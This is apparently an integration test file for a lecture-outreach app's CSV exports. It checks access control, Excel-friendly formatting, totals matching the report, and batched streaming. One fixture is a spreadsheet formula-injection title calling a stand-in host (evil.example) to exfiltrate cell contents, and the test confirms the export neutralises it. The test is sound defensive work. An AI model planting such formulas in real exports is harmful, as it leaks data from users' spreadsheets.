import 'reflect-metadata';
import mongoose, { Types } from 'mongoose';
import { parse } from 'csv-parse/sync';
import { loadConfig } from '../../server/src/config';
import { TokenService } from '../../server/src/auth/token';
import { Role } from '../../server/src/modules/user/user-enums';
import { sweepNoShows } from '../../server/src/modules/checkin/checkin.service';
import { rebuildOutcomes } from '../../server/src/modules/outreach/outcome.service';
import { OutreachTargetModel } from '../../server/src/modules/outreach/target.model';
import { BOOK, insertLecture, newKey, signIn } from '../helpers/booking';
import { signInAs, type SignedIn } from '../helpers/roles';
import { startTestServer, type TestServer } from '../helpers/server';

/**
 * The CSV exports of the outreach report, against the seeded demo world plus a few lectures,
 * bookings and check-ins of this file's own: who may download what, and that the files say what
 * the report says.
 */

const HOUR = 3600 * 1000;
const YEAR = Number(new Date(Date.now() + 8 * HOUR).getUTCFullYear());
const YANPING = '350702';
const JIANYANG = '350703';
const JIANOU = '350783';
/** A past year of this file's own, for the many-lectures export (the report covers it as well). */
const BULK_YEAR = 2024;
/** More than one batch of the export (1000). */
const BULK_LECTURES = 1100;

const FIGURES = `lecturesHeld lecturesUpcoming seatsBooked householdsBooked peopleCheckedIn walkInPeople peopleReached
  noShowSeats attendanceRate noShowRate householdsReached ratingCount averageRating lectureTarget peopleTarget
  lectureProgress peopleProgress`;
const REPORT = `query($year: Int!, $countyCode: ID) {
  outreachReport(year: $year, countyCode: $countyCode) {
    totals { ${FIGURES} }
    byVenueType { venueType figures { ${FIGURES} } }
    byCounty { county { code name } figures { ${FIGURES} } }
  }
}`;
const CHECK_IN = `mutation($input: CheckInInput!) { checkIn(input: $input) { outcome } }`;
const SET_TARGETS = `mutation($input: SetOutreachTargetsInput!) { setOutreachTargets(input: $input) { venueType lectures } }`;
const FEEDBACK = `mutation($input: FeedbackInput!) { submitFeedback(input: $input) { id } }`;
const WALK_IN = `mutation($input: WalkInInput!) { recordWalkIn(input: $input) { outcome } }`;

const VENUE_LABELS: Record<string, string> = {
  VILLAGE: '进农村',
  COMMUNITY: '进社区',
  SCHOOL: '进学校',
  GOVERNMENT: '进机关',
  ENTERPRISE: '进企业',
};
const LECTURE_HEADERS = ['讲座', '五进类型', '县（市、区）', '场地', '开始时间', '结束时间', '主讲人', '状态', '座位数', '预约座位', '预约户数', '签到人数', '现场登记人数', '到场总人数', '未到座位', '评价数', '平均评分'];
const SUMMARY_NUMBERS = ['场次(已举办)', '目标场次', '场次完成率', '到场人数', '目标人数', '人数完成率', '预约座位', '签到人数', '现场登记人数', '出席率', '未到率', '覆盖户数', '平均评分'];

const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")';
const PLUS_TITLE = '+1 亲子沟通小课堂';
const SPACED_TITLE = '  @SUM(1+1) 家风建设';

interface Download {
  status: number;
  headers: Headers;
  bytes: Buffer;
  text: string;
}

let server: TestServer;
let city: SignedIn;
let yanpingOrganizer: SignedIn;
let lecturer: SignedIn;
let parentToken: string;
let heldLectureId: string;

async function download(path: string, token?: string, headers: Record<string, string> = {}): Promise<Download> {
  const response = await fetch(`${server.url}${path}`, { headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers } });
  const bytes = Buffer.from(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, bytes, text: bytes.toString('utf8') };
}

/** Rows as objects keyed by the Chinese headers (csv-parse strips the BOM). */
function records(file: Download): Array<Record<string, string>> {
  return parse(file.text, { bom: true, columns: true, relax_column_count: false });
}

async function report(year: number, countyCode: string | null, token = city.token) {
  const body = await server.graphql(REPORT, { year, countyCode }, token);
  expect(body.errors).toBeUndefined();
  return body.data.outreachReport;
}

const sum = (rows: Array<Record<string, string>>, column: string) => rows.reduce((total, row) => total + Number(row[column]), 0);
const percent = (ratio: number | null) => (ratio === null ? '' : `${(ratio * 100).toFixed(1)}%`);
const rating = (value: number | null) => (value === null ? '' : value.toFixed(1));

async function seededVenue(countyCode: string): Promise<{ id: string; name: string; type: string }> {
  const body = await server.graphql(`query($c: ID) { venues(countyCode: $c) { id name type } }`, { c: countyCode });
  expect(body.errors).toBeUndefined();
  return body.data.venues[0];
}

beforeAll(async () => {
  server = await startTestServer({ label: 'outreach-export', seed: true });
  city = await signInAs(server.url, 'export-city-organizer', 'ORGANIZER');
  yanpingOrganizer = await signInAs(server.url, 'export-yanping-organizer', 'ORGANIZER', { countyCode: YANPING });
  lecturer = await signInAs(server.url, 'export-lecturer', 'LECTURER', { countyCode: YANPING });
  parentToken = await signIn(server, 'export-parent');
  const venue = await seededVenue(YANPING);
  const own = { venueId: new Types.ObjectId(venue.id), venueType: venue.type, countyCode: YANPING, lecturerId: new Types.ObjectId(lecturer.lecturerId!) };

  // A lecture held within the hour: three households book, two come in and rate it, four people
  // walk in, the third household never comes (the no-show sweep marks it after the end). Then the
  // lecture is moved to have started already (bookings close at the start).
  heldLectureId = await insertLecture({ ...own, title: '家庭教育促进法宣讲（导出测试）', startsAt: new Date(Date.now() + HOUR), endsAt: new Date(Date.now() + 3 * HOUR) });
  const households: Array<{ token: string; bookingId: string }> = [];
  for (const [openId, partySize] of [['export-wang', 2], ['export-zhao', 1], ['export-li', 3]] as const) {
    const token = await signIn(server, openId);
    const booked = await server.graphql(BOOK, { input: { lectureId: heldLectureId, partySize, idempotencyKey: newKey() } }, token);
    expect(booked.errors).toBeUndefined();
    households.push({ token, bookingId: booked.data.bookLecture.id });
  }
  for (const [i, rating] of [[0, 5], [1, 4]]) {
    const checkedIn = await server.graphql(CHECK_IN, { input: { lectureId: heldLectureId, bookingId: households[i].bookingId } }, lecturer.token);
    expect(checkedIn.errors).toBeUndefined();
    const rated = await server.graphql(FEEDBACK, { input: { lectureId: heldLectureId, rating } }, households[i].token);
    expect(rated.errors).toBeUndefined();
  }
  const walkIn = await server.graphql(WALK_IN, { input: { lectureId: heldLectureId, partySize: 4, clientScanId: newKey() } }, lecturer.token);
  expect(walkIn.errors).toBeUndefined();
  expect(await sweepNoShows(new Date(Date.now() + 4 * HOUR))).toMatchObject({ noShows: 1 });
  await mongoose.connection.db!.collection('lectures').updateOne(
    { _id: new Types.ObjectId(heldLectureId) },
    { $set: { startsAt: new Date(Date.now() - 2 * HOUR), endsAt: new Date(Date.now() - HOUR / 2) } },
  );

  // Titles a lecturer could type that a spreadsheet would run as formulas.
  for (const title of [FORMULA_TITLE, PLUS_TITLE, SPACED_TITLE]) {
    await insertLecture({ ...own, title, startsAt: new Date(Date.now() + 48 * HOUR), endsAt: new Date(Date.now() + 50 * HOUR) });
  }

  // The city sets its village target; Jian'ou has none in the bulk year (the demo world sets
  // targets for most cells), so the summary has both kinds of cell.
  const targets = await server.graphql(SET_TARGETS, { input: { year: YEAR, targets: [{ venueType: 'VILLAGE', lectures: 40, people: 2000 }] } }, city.token);
  expect(targets.errors).toBeUndefined();
  await OutreachTargetModel.deleteMany({ year: BULK_YEAR, countyCode: JIANOU });

  await rebuildOutcomes();

  // Many lectures in a past year of Jian'ou: the export pages through them in batches. Written
  // after the outcomes are built, as lectures nobody booked (their figures are zeros).
  const jianou = await seededVenue(JIANOU);
  const start = Date.UTC(BULK_YEAR, 0, 2, 1); // 2 January, 09:00 in Beijing
  await mongoose.connection.db!.collection('lectures').insertMany(
    Array.from({ length: BULK_LECTURES }, (_, i) => ({
      _id: new Types.ObjectId(),
      title: `批量讲座 ${String(i + 1).padStart(4, '0')}`,
      summary: '导出分批测试',
      startsAt: new Date(start + i * 7 * HOUR),
      endsAt: new Date(start + i * 7 * HOUR + 2 * HOUR),
      venueId: new Types.ObjectId(jianou.id),
      lecturerId: new Types.ObjectId(lecturer.lecturerId!),
      capacity: 40,
      maxPartySize: 4,
      status: 'PUBLISHED',
      tags: [],
      venueType: jianou.type,
      countyCode: JIANOU,
    })),
  );
  // The demo world with a year of attendance takes a while to seed on a busy machine.
}, 240_000);

afterAll(() => server.close());

describe('who may download', () => {
  const paths = [`/exports/outreach.csv?year=${YEAR}`, `/exports/outreach-summary.csv?year=${YEAR}`];

  it.each(paths)('%s: 401 without a token, with a garbage or expired token, or with the token in the URL', async (path) => {
    const expired = await new TokenService(loadConfig({}).auth.secret, 60).issue(
      { userId: city.userId, role: Role.ORGANIZER, countyCode: null, lecturerId: null },
      new Date(Date.now() - 2 * HOUR),
    );
    for (const attempt of [
      await download(path),
      await download(path, 'not-a-token'),
      await download(path, expired.token),
      await download(path, undefined, { authorization: city.token }), // no "Bearer"
      await download(`${path}&token=${encodeURIComponent(city.token)}`),
      await download(`${path}&access_token=${encodeURIComponent(city.token)}`),
    ]) {
      expect(attempt.status).toBe(401);
      expect(attempt.headers.get('content-type')).toBe('text/plain; charset=utf-8');
      expect(attempt.text).toMatch(/登录/);
      expect(attempt.text).not.toMatch(/at .*\.ts|Error/);
    }
  });

  it.each(paths)('%s: 403 for a parent, a lecturer, and a county organizer asking for the city or another county', async (path) => {
    for (const attempt of [
      await download(path, parentToken),
      await download(path, lecturer.token),
      await download(path, yanpingOrganizer.token),
      await download(`${path}&county=${JIANYANG}`, yanpingOrganizer.token),
    ]) {
      expect(attempt.status).toBe(403);
      expect(attempt.headers.get('content-type')).toBe('text/plain; charset=utf-8');
      expect(attempt.text).toMatch(/无权/);
    }
  });

  it.each(paths)('%s: 400 for a bad year or county, before anything is read', async (path) => {
    const base = path.split('?')[0];
    for (const query of ['', 'year=abc', 'year=1999', `year=${YEAR + 5}`, 'year=2026.5', 'year=2026&year=2025']) {
      const attempt = await download(`${base}?${query}`, city.token);
      expect(attempt.status).toBe(400);
      expect(attempt.text).toBe('年份不正确');
    }
    for (const county of ['999999', 'abc', `${YANPING}&county=${JIANYANG}`]) {
      const attempt = await download(`${base}?year=${YEAR}&county=${county}`, city.token);
      expect(attempt.status).toBe(400);
      expect(attempt.headers.get('content-type')).toBe('text/plain; charset=utf-8');
      expect(attempt.text).toBe('县（市、区）代码不正确');
    }
  });
});

describe('the lectures file', () => {
  it('opens in Excel: BOM, CRLF, Chinese headers, a Chinese file name with an ASCII fallback, not cached', async () => {
    const file = await download(`/exports/outreach.csv?year=${YEAR}`, city.token);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(file.headers.get('cache-control')).toContain('no-store');
    // Streamed, not built whole: no length announced up front.
    expect(file.headers.get('content-length')).toBeNull();
    const disposition = file.headers.get('content-disposition')!;
    expect(disposition).toContain(`filename="outreach_${YEAR}_city.csv"`);
    expect(disposition).toContain(`filename*=UTF-8''${encodeURIComponent(`五进讲座_${YEAR}_南平市.csv`)}`);
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.text.slice(1).split('\r\n')[0]).toBe(LECTURE_HEADERS.join(','));
    expect(file.text).toMatch(/\r\n$/);
    expect(file.text.replace(/\r\n/g, '')).not.toMatch(/\n/);
  });

  it('adds up to the report: lectures, seats booked, checked in, walk-ins, people reached, no-shows, ratings', async () => {
    for (const [token, county] of [[city.token, null], [yanpingOrganizer.token, YANPING], [city.token, JIANOU]] as const) {
      const expected = (await report(YEAR, county, token)).totals;
      const rows = records(await download(`/exports/outreach.csv?year=${YEAR}${county ? `&county=${county}` : ''}`, token));
      expect(rows.filter((row) => row['状态'] === '已举办')).toHaveLength(expected.lecturesHeld);
      expect(rows.filter((row) => row['状态'] === '未开始')).toHaveLength(expected.lecturesUpcoming);
      expect({
        seatsBooked: sum(rows, '预约座位'),
        peopleCheckedIn: sum(rows, '签到人数'),
        walkInPeople: sum(rows, '现场登记人数'),
        peopleReached: sum(rows, '到场总人数'),
        noShowSeats: sum(rows, '未到座位'),
        ratingCount: sum(rows, '评价数'),
      }).toEqual({
        seatsBooked: expected.seatsBooked,
        peopleCheckedIn: expected.peopleCheckedIn,
        walkInPeople: expected.walkInPeople,
        peopleReached: expected.peopleReached,
        noShowSeats: expected.noShowSeats,
        ratingCount: expected.ratingCount,
      });
      // Rows come by start time.
      const starts = rows.map((row) => row['开始时间']);
      expect([...starts].sort()).toEqual(starts);
      expect(starts.every((start) => start.startsWith(String(YEAR)))).toBe(true);
    }
  });

  it("shows this file's held lecture as it happened, in Beijing time", async () => {
    const rows = records(await download(`/exports/outreach.csv?year=${YEAR}&county=${YANPING}`, yanpingOrganizer.token));
    const held = rows.find((row) => row['讲座'] === '家庭教育促进法宣讲（导出测试）')!;
    const lecture = await mongoose.connection.db!.collection('lectures').findOne({ _id: new Types.ObjectId(heldLectureId) });
    const beijing = new Date(lecture!.startsAt.getTime() + 8 * HOUR).toISOString();
    expect(held).toMatchObject({
      '县（市、区）': '延平区',
      '开始时间': `${beijing.slice(0, 10)} ${beijing.slice(11, 16)}`,
      '状态': '已举办',
      '座位数': '30',
      '预约座位': '6',
      '预约户数': '3',
      '签到人数': '3',
      '现场登记人数': '4',
      '到场总人数': '7',
      '未到座位': '3',
      '评价数': '2',
      '平均评分': '4.5',
    });
    expect(Object.values(VENUE_LABELS)).toContain(held['五进类型']);
    expect(held['主讲人']).not.toBe('');
    expect(held['场地']).not.toBe('');
  });

  it("a county organizer's file holds only that county's lectures", async () => {
    const file = await download(`/exports/outreach.csv?year=${YEAR}&county=${YANPING}`, yanpingOrganizer.token);
    expect(file.headers.get('content-disposition')).toContain(encodeURIComponent(`五进讲座_${YEAR}_延平区.csv`));
    const rows = records(file);
    expect(rows.length).toBeGreaterThan(3);
    expect(new Set(rows.map((row) => row['县（市、区）']))).toEqual(new Set(['延平区']));
    // ...and the city's file has more than Yanping in it, including all of Yanping's rows.
    const cityRows = records(await download(`/exports/outreach.csv?year=${YEAR}`, city.token));
    expect(new Set(cityRows.map((row) => row['县（市、区）'])).size).toBeGreaterThan(1);
    expect(cityRows.filter((row) => row['县（市、区）'] === '延平区')).toEqual(rows);
  });

  it('neutralises titles a spreadsheet would run as formulas', async () => {
    const file = await download(`/exports/outreach.csv?year=${YEAR}&county=${YANPING}`, city.token);
    const titles = records(file).map((row) => row['讲座']);
    expect(titles).toContain(`'${FORMULA_TITLE}`);
    expect(titles).toContain(`'${PLUS_TITLE}`);
    expect(titles).toContain(`'${SPACED_TITLE}`);
    expect(titles.filter((title) => /^\s*[=+\-@]/.test(title))).toEqual([]);
  });

  it('streams hundreds of lectures in order across batches', async () => {
    const rows = records(await download(`/exports/outreach.csv?year=${BULK_YEAR}&county=${JIANOU}`, city.token));
    const bulk = rows.filter((row) => row['讲座'].startsWith('批量讲座'));
    expect(bulk).toHaveLength(BULK_LECTURES);
    expect(bulk.map((row) => row['讲座'])).toEqual(Array.from({ length: BULK_LECTURES }, (_, i) => `批量讲座 ${String(i + 1).padStart(4, '0')}`));
    expect(bulk.every((row) => row['状态'] === '已举办' && row['县（市、区）'] === '建瓯市')).toBe(true);
    expect(bulk[0]['开始时间']).toBe(`${BULK_YEAR}-01-02 09:00`);
    const expected = (await report(BULK_YEAR, JIANOU)).totals;
    expect(rows).toHaveLength(expected.lecturesHeld + expected.lecturesUpcoming);
  });

  it('stops reading when the client goes away mid-download, and keeps serving', async () => {
    const controller = new AbortController();
    const response = await fetch(`${server.url}/exports/outreach.csv?year=${BULK_YEAR}&county=${JIANOU}`, {
      headers: { authorization: `Bearer ${city.token}` },
      signal: controller.signal,
    });
    expect(response.status).toBe(200);
    const reader = response.body!.getReader();
    const first = await reader.read();
    expect(Buffer.from(first.value!).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    controller.abort();
    await reader.cancel().catch(() => undefined);

    const again = await download(`/exports/outreach.csv?year=${BULK_YEAR}&county=${JIANOU}`, city.token);
    expect(again.status).toBe(200);
    expect(records(again).filter((row) => row['讲座'].startsWith('批量讲座'))).toHaveLength(BULK_LECTURES);
    expect((await fetch(`${server.url}/healthz`)).status).toBe(200);
  });
});

describe('the summary file', () => {
  async function summary(county: string | null, token: string) {
    const file = await download(`/exports/outreach-summary.csv?year=${YEAR}${county ? `&county=${county}` : ''}`, token);
    expect(file.status).toBe(200);
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.text.slice(1).split('\r\n')[0]).toBe(['分组', '名称', ...SUMMARY_NUMBERS].join(','));
    return { file, rows: records(file) };
  }

  function expectedCells(figures: any): Record<string, string> {
    return {
      '场次(已举办)': String(figures.lecturesHeld),
      '目标场次': figures.lectureTarget === null ? '' : String(figures.lectureTarget),
      '场次完成率': percent(figures.lectureProgress),
      '到场人数': String(figures.peopleReached),
      '目标人数': figures.peopleTarget === null ? '' : String(figures.peopleTarget),
      '人数完成率': percent(figures.peopleProgress),
      '预约座位': String(figures.seatsBooked),
      '签到人数': String(figures.peopleCheckedIn),
      '现场登记人数': String(figures.walkInPeople),
      '出席率': percent(figures.attendanceRate),
      '未到率': percent(figures.noShowRate),
      '覆盖户数': String(figures.householdsReached),
      '平均评分': rating(figures.averageRating),
    };
  }

  const numbers = (row: Record<string, string>) => Object.fromEntries(SUMMARY_NUMBERS.map((column) => [column, row[column]]));

  it.each([
    ['the city', null],
    ['Yanping', YANPING],
  ])("equals the report's rows by venue type and by county, for %s", async (_name, county) => {
    const token = county ? yanpingOrganizer.token : city.token;
    const expected = await report(YEAR, county, token);
    const { file, rows } = await summary(county, token);
    expect(file.headers.get('content-disposition')).toContain(encodeURIComponent(`五进汇总_${YEAR}_${county ? '延平区' : '南平市'}.csv`));

    const byType = rows.filter((row) => row['分组'] === '五进类型');
    expect(byType.map((row) => row['名称'])).toEqual([...expected.byVenueType.map((row: any) => VENUE_LABELS[row.venueType]), '合计']);
    expected.byVenueType.forEach((row: any, i: number) => expect(numbers(byType[i])).toEqual(expectedCells(row.figures)));
    expect(numbers(byType[5])).toEqual(expectedCells(expected.totals));

    const byCounty = rows.filter((row) => row['分组'] === '县（市、区）');
    expect(byCounty.map((row) => row['名称'])).toEqual([...expected.byCounty.map((row: any) => row.county.name), '合计']);
    expected.byCounty.forEach((row: any, i: number) => expect(numbers(byCounty[i])).toEqual(expectedCells(row.figures)));
    expect(numbers(byCounty[byCounty.length - 1])).toEqual(expectedCells(expected.totals));
    expect(rows).toHaveLength(byType.length + byCounty.length);
  });

  it('shows targets and progress as percentages, empty where no target is set', async () => {
    const { rows } = await summary(null, city.token);
    const village = rows.find((row) => row['名称'] === '进农村')!;
    expect(village['目标场次']).toBe('40');
    expect(village['目标人数']).toBe('2000');
    expect(village['场次完成率']).toBe(`${((Number(village['场次(已举办)']) / 40) * 100).toFixed(1)}%`);
    expect(village['人数完成率']).toMatch(/^\d+\.\d%$/);

    const file = await download(`/exports/outreach-summary.csv?year=${BULK_YEAR}&county=${JIANOU}`, city.token);
    const untargeted = records(file);
    expect(untargeted).toHaveLength(8); // five types + total, Jian'ou + total
    for (const row of untargeted) {
      expect([row['目标场次'], row['场次完成率'], row['目标人数'], row['人数完成率']]).toEqual(['', '', '', '']);
    }
    const total = untargeted.find((row) => row['分组'] === '县（市、区）' && row['名称'] === '合计')!;
    expect(Number(total['场次(已举办)'])).toBeGreaterThanOrEqual(BULK_LECTURES);
  });

  it("a county organizer's summary names only their county", async () => {
    const { rows } = await summary(YANPING, yanpingOrganizer.token);
    expect(rows.filter((row) => row['分组'] === '县（市、区）').map((row) => row['名称'])).toEqual(['延平区', '合计']);
  });
});
